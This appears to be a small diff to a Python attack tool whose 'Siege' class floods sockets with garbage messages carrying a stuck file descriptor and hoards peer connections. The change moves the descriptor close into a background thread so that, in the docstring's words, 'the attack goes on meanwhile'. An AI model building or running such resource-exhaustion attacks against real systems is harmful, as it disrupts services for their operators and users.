@@ -10,6 +10,7 @@ import random
 import socket
 import struct
 import sys
+import threading
 from collections.abc import Callable
 from contextlib import suppress
 from pathlib import Path
@@ -82,7 +83,7 @@ class Siege:
                     client.send(b"garbage", [stuck])
                 else:
                     client.iov(stuck, MIB)
-            os.close(stuck)
+            _close_beside(stuck)
             client.close()
 
     def hoarding(self) -> None:
@@ -178,6 +179,11 @@ def _stuck_socket() -> int:
     if len(PEERS) > PEERS_MAX:
         PEERS.pop(0).close()
     return client.detach()
+
+
+def _close_beside(stuck: int) -> None:
+    """Whoever has it last waits for an hour. Where that is this process, the attack goes on meanwhile."""
+    threading.Thread(target=os.close, args=(stuck,), daemon=True).start()
 
 
 PEERS: list[socket.socket] = []
